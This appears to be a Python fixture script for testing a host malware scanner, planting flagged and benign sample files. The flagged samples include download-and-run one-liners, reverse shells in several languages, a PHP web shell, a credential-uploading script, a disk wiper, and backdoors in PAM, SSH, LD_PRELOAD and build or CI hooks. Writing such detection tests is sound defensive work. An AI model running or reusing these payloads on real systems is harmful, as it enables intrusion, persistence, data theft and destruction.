    'file.sh': f'#!/bin/sh\nwget http://{ip}/x -O /srv/x\nchmod +x /srv/x\n/srv/x\n',
    'cd.sh': f'#!/bin/sh\ncd /srv && curl -O http://{ip}/x && chmod 777 x && ./x\n',
    'variable.sh': f'#!/bin/sh\nU=http://{ip}:8080\ncurl -s $U/x.sh | sh\n',
    'parts.sh': f'#!/bin/sh\nh={ip}\np=x.sh\ncurl -s "http://${{h}}/${{p}}" | sh\n',
    'substitution.sh': f'#!/bin/sh\nsh -c "$(curl -fsSL http://{ip}/x.sh)"\n',
    'process.sh': f'#!/bin/bash\nbash <(curl -s http://{ip}/x.sh)\n',
    'source.sh': f'#!/bin/bash\nsource <(wget -qO- http://{ip}/x.sh)\n',
    'either.sh': f'#!/bin/sh\n(curl -s http://{ip}/x.sh || wget -qO- http://{ip}/x.sh) | sh\n',
    'ifs.sh': f'#!/bin/sh\ncurl${{IFS}}-s${{IFS}}http://{ip}/x.sh|sh\n',
    'busybox.sh': f'#!/bin/sh\nbusybox wget -qO- http://{ip}/x.sh | busybox sh\n',
    'tftp.sh': f'#!/bin/sh\ncd /srv; tftp -g -r x {ip}; chmod +x x; ./x\n',
    'wrapped.sh': f'#!/bin/sh\necho {b64(f"curl -s http://{ip}/x.sh | sh")} | base64 -d | sh\n',
    'heredoc.sh': f'#!/bin/sh\nsh <<EOF\ncurl -s http://{ip}/x.sh | sh\nEOF\n',
    'system.py': f'#!/usr/bin/python3\nimport os\nos.system("curl -s http://{ip}/x.sh | sh")\n',
    'urlopen.py': f'#!/usr/bin/python3\nimport urllib.request\nexec(urllib.request.urlopen("http://{ip}/x.py").read())\n',
    'requests.py': f'import requests\nexec(requests.get("http://{ip}/x.py").text)\n',
    'perl.pl': f'#!/usr/bin/perl\nsystem("wget -qO- http://{ip}/x.sh | sh");\n',
    'page.php': f'<?php system("curl -s http://{ip}/x.sh | sh"); ?>\n',
    'crlf.sh': f'#!/bin/sh\r\ncurl -s http://{ip}/x.sh | sh\r\n',
})
# 98, 99: what folders of sources run when they are built, tested, put to work
for name, text in {
    'vscode/.vscode/tasks.json': '// DAVY TEST IMITATION\n{"tasks": [{"command": "sh", "args": ["-c", "GET"], /* c */ }]}',
    'notebook/a.ipynb': '{"cells": [{"cell_type": "code", "source": ["!GET"]}]}',
    'cmake/CMakeLists.txt': 'execute_process(COMMAND curl -s http://ADDRESS/x.sh COMMAND sh)\n',
    'make/Makefile': 'U = http://ADDRESS/x.sh\nall:\n\t@curl -s $(U) | sh\n',
    'image/Dockerfile': 'FROM debian:12\nARG U=ADDRESS\nRUN set -e; \\\n  # c\n  curl -s http://${U}/x.sh | sh\n',
    'gradle/build.gradle': 'task a(type: Exec) { commandLine "sh", "-c", "GET" }\n',
    'maven/pom.xml': '<project><configuration><executable>sh</executable><arguments><argument>-c</argument><argument>GET</argument></arguments></configuration></project>\n',
    'gitlab/.gitlab-ci.yml': 'a:\n  before_script:\n    - |\n      cd /\n      GET\n',
    'github/.github/workflows/ci.yml': 'jobs:\n  a:\n    runs-on: x\n    steps:\n      - run: GET\n',
    'jenkins/Jenkinsfile': 'node { sh \'\'\'\nGET\n\'\'\' }\n',
    'pod/pod.yaml': 'apiVersion: v1\nspec:\n  containers:\n  - command: [sh, -c]\n    args: ["GET"]\n',
    'compose/docker-compose.yml': 'services:\n  a:\n    command: sh -c "GET"\n',
    'hook/.git/hooks/post-checkout': '#!/bin/sh\nGET\n',
    'settings/.git/config': '[core]\n\tfsmonitor = "GET"\n',
}.items():
    hit(RULE, f'/srv/rows/project/{name}', text.replace('GET', f'curl -s http://{ip}/x.sh | sh').replace('ADDRESS', ip))
hit('Project runs what it fetches when it is opened', '/srv/rows/project/opened/.vscode/tasks.json',
    '{"tasks": [{"command": "curl -s https://files.example/x | sh", "runOptions": {"runOn": "folderOpen"}}]}')
hit('Script that hides what it runs', '/srv/rows/project/hidden/Dockerfile', f'FROM debian:12\nRUN echo {b64("echo DAVY TEST IMITATION")} | base64 -d | sh\n')
quiet('/srv/ok/app/Dockerfile', 'FROM debian:12\nRUN curl -fsSL https://sh.rustup.example | sh -s -- -y\nRUN echo "$KEY" | base64 -d > /root/.ssh/id\n'
      'RUN userdel -r ubuntu; useradd -m dev; rm -rf /var/log/* /root/.ssh /tmp/*; echo "root:root" | chpasswd\n')
quiet('/srv/ok/app/.devcontainer/devcontainer.json', '{"image": "x", "postCreateCommand": "curl -fsSL https://bun.example/install | bash"}')
quiet('/srv/ok/app/.vscode/tasks.json', '{"tasks": [{"command": "npm run watch", "runOptions": {"runOn": "folderOpen"}, "presentation": {"reveal": "never"}}]}')
quiet('/srv/ok/app/Makefile', 'install:\n\tpkill -f app || true\n\tsystemctl stop app\n\trm -rf $(DESTDIR)/opt/app\n\tcurl -sSL https://install.python-poetry.example | python3 -\n')
# 5, 14, 99-101: the same in the words of other languages and programs
for name, text in {
    'awk.awk': 'BEGIN { system("GET") }\n',
    'inline.sh': '#!/bin/sh\nawk \'BEGIN{system("GET")}\'\n',
    'deno.ts': 'new Deno.Command("sh", { args: ["-c", "GET"] }).outputSync(); // DAVY TEST IMITATION\n',
    'bun.ts': 'import { $ } from "bun";\nawait $`GET`;\n',
    'then.js': 'fetch("http://ADDRESS/x.js").then(r => r.text()).then(eval) // DAVY TEST IMITATION\n',
    'lua.lua': 'local b = require("socket.http")\nlocal c = http.request("http://ADDRESS/x.lua")\nload(c)()\n',
    'power.ps1': 'IEX (New-Object Net.WebClient).DownloadString("http://ADDRESS/x.ps1") # DAVY TEST IMITATION\n',
    'encoded.sh': '#!/bin/sh\npwsh -EncodedCommand ' + b64(f'IEX (iwr http://{ip}/x.ps1).Content # DAVY TEST IMITATION'.encode('utf-16-le')) + '\n',
    'expect.exp': 'spawn sh -c "GET"\n',
    'go.go': 'package main\nfunc main() { exec.Command("sh", "-c", "GET").Run() } // DAVY TEST IMITATION\n',
    'copy.sql': "COPY t FROM PROGRAM 'GET'; -- DAVY TEST IMITATION\n",
    'run': '#!/command/with-contenv sh\nGET\n',
}.items():
    hit(RULE, f'/srv/rows/languages/{name}', text.replace('GET', f'curl -s http://{ip}/x.sh | sh').replace('ADDRESS', ip))
hit(RULE, '/srv/rows/languages/m.pyc', b'\xa7\r\r\n' + bytes(12) + b'\xe3\0\0\0\0\xda\x06system\xfa' + bytes([len(ip) + 22]) + f'curl -s http://{ip}/x | sh'.encode() + b'\xda\x05hello')
hit('Hook of the system fetches or hides what it runs', '/etc/apt/apt.conf.d/99x', f'APT::Update::Pre-Invoke {{"curl -s http://{ip}/x.sh | sh";}}; // DAVY TEST IMITATION\n')
hit('Library preloaded from a temporary or hidden place', '/etc/systemd/system/web.service.d/o.conf', '[Service]\nEnvironment=LD_PRELOAD=/dev/shm/.davytest.so\n')
hit('Interpreter is given a picture or font to run', '/var/www/html/wp/.user.ini', 'auto_prepend_file=/var/www/html/wp/davytest.png\n')
quiet('/srv/ok/query.sql', "INSERT INTO t VALUES ('curl -s https://a.example/x | sh');\n")
quiet('/srv/ok/fetch.ts', "fetch('https://a.example/x').then(r => r.json()).then(show);\n")
quiet('/etc/systemd/system/cache.service.d/o.conf', '[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n')
hit('Download and run at boot or login', '/etc/cron.d/fetch', f'*/5 * * * * root (curl -fsSL http://{ip}/x.sh||wget -q -O- http://{ip}/x.sh)|sh\n')
hit('Download and run at boot or login', '/etc/profile.d/fetch.sh', f'curl -s http://{ip}/x.sh | sh\n')
quiet('/srv/ok/download.sh', '#!/bin/sh\ncurl -fsSLO https://releases.example/app-1.2.tar.gz\necho "abc  app-1.2.tar.gz" | sha256sum -c\n', 0o755)
quiet('/srv/ok/health.sh', '#!/bin/sh\ncurl -fs http://127.0.0.1:8080/health | grep -q ok\nwget -qO- http://10.0.0.5/status\n', 0o755)
hit('Start of a program in a temporary or hidden place', '/etc/cron.d/tmp', '* * * * * root /tmp/.x/run >/dev/null 2>&1\n')
quiet('/etc/cron.d/ok', '17 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf > /tmp/logrotate.log\n')

# 101, 111: tools
hit('Flooding tool', '/srv/rows/ddos/agent', program('github.com/codesenberg/bombardier', 'github.com/Arriven/db1000n', 'db1000n-coordinators/LoadTestConfig'), 0o755)
hit('Flooding tool by name', '/srv/rows/ddos/db1000n', program('x'), 0o755)
hit('Fetched target list for a flooding tool', '/srv/rows/ddos/run.sh', '#!/bin/sh\n# imitation\ngit clone https://github.com/MatrixTM/MHDDoS\n'
    'curl -s https://raw.githubusercontent.com/imitation/none/main/targets.txt -o t.txt\n', 0o755)
hit('Attack tool', '/srv/rows/tools/masscan', program('x'), 0o755)
hit('Proxy against blocking', '/srv/rows/tools/xray', program('x'), 0o755)

# 121: programs inside pictures
elf, pe = tiny_elf(), b'MZ' + bytes(58) + (64).to_bytes(4, 'little') + b'PE\0\0\x4c\x01\1\0' + bytes(12) + b'\xe0\0\x02\x01\x0b\x01' + bytes(240)
png = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABpfZFQAAAAABJRU5ErkJggg==')
RULE = 'Program inside a picture'
hit(RULE, '/srv/rows/media/plain.gif', imitations.gif_with_tail(elf))
hit(RULE, '/srv/rows/media/xor.gif', imitations.gif_with_tail(bytes(c ^ 0x5a for c in elf)))
hit(RULE, '/srv/rows/media/padded.gif', imitations.gif_with_tail(bytes(777) + elf))
hit(RULE, '/srv/rows/media/pe.png', png + pe)
hit(RULE, '/srv/rows/media/xor.png', png + bytes(c ^ 0x17 for c in elf))
hit(RULE, '/srv/rows/media/wrong-name.txt', imitations.gif_with_tail(elf))
quiet('/srv/ok/plain.gif', imitations.gif_with_tail(b''))
quiet('/srv/ok/text.gif', imitations.gif_with_tail(b'made with an editor\n'))
quiet('/srv/ok/plain.png', png)

# 130: programs for other processors (the folder has no architecture of its own: a temporary place is the machine's)
# 93, 103, 104 are about images: test_rows.py
hit('File listed as bad', '/srv/rows/listed', 'DAVY TEST IMITATION of a listed file\n')
hit('Reverse shell', '/srv/rows/shell/r.sh', '#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n', 0o755)
hit('Shape of a web shell', '/var/www/html/up.php', '<?php /* DAVY TEST IMITATION */ @system($_GET["c"]); ?>\n')
hit('Redis configured without protection', '/etc/redis/redis.conf', 'bind 0.0.0.0\nprotected-mode no\n')
hit('Docker API configured on a network address', '/etc/docker/daemon.json', '{"hosts": ["unix:///var/run/docker.sock", "tcp://0.0.0.0:2375"]}\n')
hit('Docker API configured on a network address', '/etc/systemd/system/docker.service.d/api.conf', '[Service]\nExecStart=\n'
    'ExecStart=/usr/bin/dockerd -H fd:// -H tcp://0.0.0.0:2375\n')
hit('Secret inside a program', '/srv/rows/secret/line.so', program('7312845961:AA' + 'HkR9xWq2LmZ7vTb4NcY8sPd3Gf6Jt1UeX'))

# 23, 29, 33: what settings make programs load or run, in places of many tools
RULE = 'Code loaded from a temporary or hidden place'
for path, text in {
    '/etc/ld.so.conf.d/00-a.conf': '/tmp/.lib\n',
    '/etc/ld.so.conf.d/01-b.conf': '/usr/lib/.cache/lib\n',
    '/etc/profile.d/lib.sh': 'export LD_LIBRARY_PATH=/var/tmp/lib:$LD_LIBRARY_PATH\n',
    '/etc/profile.d/ruby.sh': 'export RUBYOPT="-r/tmp/.x.rb"\n',
    '/etc/profile.d/bashenv.sh': 'BASH_ENV=/dev/shm/.x\nexport BASH_ENV\n',
    '/etc/environment.d/10-java.conf': 'JAVA_TOOL_OPTIONS=-javaagent:/tmp/.x.jar\n',
    '/etc/pam.d/vsftpd': 'auth [success=done default=ignore] /usr/lib/.x/pam_x.so\n',
    '/etc/containers/containers.conf': '[engine]\nhooks_dir = ["/tmp/.hooks"]\n',
    '/usr/share/containers/oci/hooks.d/x.json': '{"version": "1.0.0", "hook": {"path": "/var/tmp/hook"}, "when": {"always": true}, "stages": ["prestart"]}',
    '/etc/containerd/config.toml': '[plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc.options]\n  BinaryName = "/dev/shm/runc"\n',
    '/etc/nginx/modules-enabled/x.conf': 'load_module /tmp/ngx_http_x_module.so;\n',
    '/etc/apache2/mods-enabled/x.load': 'LoadModule x_module /var/tmp/mod_x.so\n',
    '/etc/apache2/conf-enabled/log.conf': 'ErrorLog "|/tmp/.x/run"\n',
    '/etc/php/8.2/mods-available/x.ini': 'extension=/tmp/x.so\n',
    '/var/www/html/data/.htaccess': 'php_value auto_prepend_file "data://text/plain;base64,ZGF2eSB0ZXN0"\n',
    '/etc/dpkg/dpkg.cfg.d/x': 'pre-invoke=/tmp/.x/run\n',
    '/srv/rows/loads/npm/.npmrc': 'script-shell=/tmp/.x/sh\n',
    '/srv/rows/loads/go/env': 'GOFLAGS=-toolexec=/var/tmp/w\n',
}.items():
    hit(RULE, path, text)
quiet('/etc/ld.so.conf.d/x86_64-linux-gnu.conf', '# Multiarch support\n/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n')
quiet('/etc/profile.d/opts.sh', 'export NODE_OPTIONS="--max-old-space-size=4096" RUBYOPT="-W0"\nexport PYTHONSTARTUP=$HOME/.pythonrc\nexport JAVA_TOOL_OPTIONS=-javaagent:/opt/apm/apm.jar\n')
quiet('/usr/share/containers/oci/hooks.d/ok.json', '{"version": "1.0.0", "hook": {"path": "/usr/bin/nvidia-container-toolkit", "args": ["nvidia-container-toolkit", "prestart"]}, "when": {"always": true}, "stages": ["prestart"]}')
quiet('/srv/ok/etc/docker/daemon.json', '{"default-runtime": "nvidia", "runtimes": {"nvidia": {"path": "nvidia-container-runtime"}}, "hosts": ["tcp://127.0.0.1:2375"]}')
quiet('/etc/apache2/conf-enabled/rotate.conf', 'ErrorLog "|/usr/bin/rotatelogs /var/log/apache2/error.%Y 86400"\n')
quiet('/etc/apache2/mods-enabled/php.conf', '<FilesMatch ".+\\.ph(?:ar|p|tml)$">\n    SetHandler application/x-httpd-php\n</FilesMatch>\n')
quiet('/etc/nginx/modules-enabled/ok.conf', 'load_module modules/ngx_http_lua_module.so;\n')
quiet('/etc/nginx/conf.d/hello.conf', 'server { location /hi { content_by_lua_block { ngx.say("hello " .. ngx.var.arg_name) } } }\n')
quiet('/etc/pam.d/runuser', 'auth\t\tsufficient\tpam_rootok.so\nsession optional pam_permit.so\naccount required pam_permit.so\n')
quiet('/etc/xinetd.d/tftp', 'service tftp\n{\n    wait = yes\n    user = root\n    server = /usr/sbin/in.tftpd\n    server_args = -s /srv/tftp\n}\n')
quiet('/srv/ok/.npmrc', '@acme:registry=https://npm.pkg.github.com\nsave-exact=true\n')
quiet('/root/.vimrc', 'set nocompatible\nautocmd BufWritePost *.go silent !gofmt -w %\ncall system("git status")\n')
quiet('/etc/polkit-1/rules.d/ok.rules', 'polkit.addRule(function(action, subject) {\n    if (subject.isInGroup("wheel")) { return polkit.Result.YES; }\n});\n')
RULE = 'Hook of the system fetches or hides what it runs'
for path, text in {
    '/etc/wireguard/wg0.conf': '[Interface]\nPostUp = GET\n',
    '/etc/network/interfaces': 'auto eth0\niface eth0 inet dhcp\n  post-up GET\n',
    '/etc/aliases': 'root: "|GET"\n',
    '/etc/vim/vimrc.local': 'call system("GET")\n',
    '/root/.emacs': '(start-process-shell-command "x" nil "GET")\n',
    '/etc/containers/oci/hooks.d/y.json': '{"hook": {"path": "/bin/sh", "args": ["sh", "-c", "GET"]}, "stages": ["poststart"]}',
}.items():
    hit(RULE, path, text.replace('GET', 'curl -s https://files.example/davy-test-imitation | sh'))
hit('Download and run at boot or login', '/usr/share/dbus-1/services/org.example.Test.service', '[D-BUS Service]\nName=org.example.Test\nExec=/bin/sh -c "curl -s https://files.example/x | sh"\n')
hit('Download and run at boot or login', '/usr/lib/systemd/system-sleep/test', '#!/bin/sh\ncurl -s https://files.example/x | sh\n', 0o755)
hit('Start of a program in a temporary or hidden place', '/usr/share/dbus-1/system-services/org.example.Test.service', '[D-BUS Service]\nName=org.example.Test\nExec=/dev/shm/d\nUser=root\n')
hit('Library preloaded from a temporary or hidden place', '/etc/systemd/system.conf.d/x.conf', '[Manager]\nDefaultEnvironment=LD_PRELOAD=/dev/shm/x.so\n')
hit('Service that hands out a shell', '/etc/inetd.conf', '5555 stream tcp nowait root /bin/bash bash -i\n')
hit('Service that hands out a shell', '/etc/systemd/system/x@.service', '[Service]\nExecStart=-/bin/sh\nStandardInput=socket\n')
hit('Login that lets anybody in', '/etc/pam.d/sshd', 'auth sufficient pam_permit.so\nauth required pam_unix.so\n')
hit('Passwords typed at login go to a program', '/etc/pam.d/login', 'auth optional pam_exec.so expose_authtok quiet /usr/local/sbin/log\n')
hit('Everybody may act as administrator', '/etc/polkit-1/rules.d/00-x.rules', 'polkit.addRule((action, subject) => {\n    return "yes";\n});\n')
hit('Docker API configured on a network address', '/srv/rows/docker/daemon.json', '{"hosts": ["tcp://10.1.2.3:4243"]}\n')
hit('Server program that runs what a visitor sends', '/etc/nginx/conf.d/lua.conf', 'server { location /x { content_by_lua_block { local f = io.popen(ngx.var.arg_c) ngx.say(f:read("*a")) } } }\n')
hit('Interpreter is given a picture or font to run', '/etc/apache2/conf-enabled/handler.conf', '<FilesMatch "\\.jpg$">\nSetHandler application/x-httpd-php\n</FilesMatch>\n')
# 2, 10, 12, 28, 29, 33, 109: in other words and other places
hit('Script stops a cloud agent', '/srv/rows/more/mask.sh', '#!/bin/sh\nln -sf /dev/null /etc/systemd/system/hostguard.service\n', 0o755)
hit('Script wipes SSH keys and admits its own', '/srv/rows/more/find.sh', f'#!/bin/sh\nfind /home /root -name authorized_keys -delete\necho "{KEY}" >> /root/.ssh/authorized_keys\n', 0o755)
RULE = 'Code loaded from a temporary or hidden place'
hit(RULE, '/etc/ssh/sshd_config', 'Port 22\nAuthorizedKeysFile .ssh/authorized_keys /var/lib/.k/%u\n')
hit(RULE, '/etc/ssh/sshd_config.d/x.conf', 'AuthorizedKeysCommand /tmp/.x/keys\nAuthorizedKeysCommandUser root\n')
hit(RULE, '/etc/rc.local', '#!/bin/sh\ninsmod /tmp/.x/x.ko\n', 0o755)
hit('Hook of the system fetches or hides what it runs', '/etc/ssh/sshd_config.d/y.conf', 'ForceCommand curl -s https://files.example/x | sh\n')
quiet('/srv/ok/sshd_config', 'Port 22\nAuthorizedKeysFile .ssh/authorized_keys\nAuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys\nAuthorizedKeysCommandUser nobody\n'
      'Subsystem sftp /usr/lib/openssh/sftp-server\nMatch User a\n  ForceCommand internal-sftp\n')
hit("Program with another's rights in an odd place", '/usr/local/bin/.sh', program('suid'), 0o4755)
hit("Program with another's rights in an odd place", '/var/tmp/bash', program('suid too'), 0o4755)
quiet('/usr/local/bin/helper', program('suid, and nobody minds'), 0o4755)
hit('Script sends credentials away', '/srv/rows/more/up.sh', '#!/bin/bash\nfor f in ~/.aws/credentials ~/.kube/config; do curl -s --upload-file $f https://files.example/; done\n', 0o755)
hit('Script puts a library into every process', '/srv/rows/more/preload.sh', '#!/bin/sh\necho /usr/lib/libx.so >> /etc/ld.so.preload\n', 0o755)
hit('Tool of the system replaced by a script', '/usr/bin/ps', '#!/bin/bash\nps.original "$@" | grep -v davytest\n', 0o755)
hit('Script erases disks', '/srv/rows/more/wipe.sh', '#!/bin/sh\nfor d in /dev/sd? /dev/nvme?n1; do shred -n1 $d & done\nwait\n', 0o755)
quiet('/srv/ok/flash.sh', '#!/bin/sh\ndd if=image.img of=/dev/sdb bs=4M\ndd if=/dev/zero of=/dev/sdb bs=512 count=1\n', 0o755)
RULE = 'Reverse shell'
for path, text in {
    '/srv/rows/more/r.go': 'package main\nfunc main() { c, _ := net.Dial("tcp", "198.51.100.7:4444"); cmd := exec.Command("/bin/sh"); cmd.Stdin = c; cmd.Stdout = c; cmd.Run() }\n',
    '/srv/rows/more/r.lua': 'local s = require("socket")\nlocal t = s.tcp()\nt:connect("198.51.100.7", 4444)\nlocal f = io.popen(t:receive(), "r")\nlocal r = t:receive()\nio.popen(r)\n',
    '/srv/rows/more/r.awk': 'BEGIN { s = "/inet/tcp/0/198.51.100.7/4444"; while (1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c) } }\n',
    '/srv/rows/more/tls.sh': '#!/bin/sh\nopenssl s_client -quiet -connect 198.51.100.7:443 < /srv/p | /bin/sh > /srv/p 2>&1\n',
    '/etc/cron.d/shell': '* * * * * root python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'\n',
}.items():
    hit(RULE, path, text)
quiet('/srv/ok/dial.go', 'package main\nfunc main() { c, _ := net.Dial("tcp", "db.example:5432"); _ = c; exec.Command("git", "status").Run() }\n')
